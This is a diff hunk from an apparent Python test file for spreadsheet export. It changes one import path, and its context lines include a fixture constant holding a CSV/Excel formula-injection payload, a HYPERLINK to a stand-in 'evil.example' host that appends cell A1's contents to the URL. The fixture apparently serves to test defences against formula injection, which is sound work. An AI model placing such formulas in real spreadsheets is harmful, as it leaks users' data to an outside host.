@@ -16,7 +16,7 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from tests.conftest import Api, Workshop
+from tests.support.api import Api, Workshop
 
 SAMPLE = Path(__file__).resolve().parent / "data" / "sample-proposals.csv"
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Klikk her")'
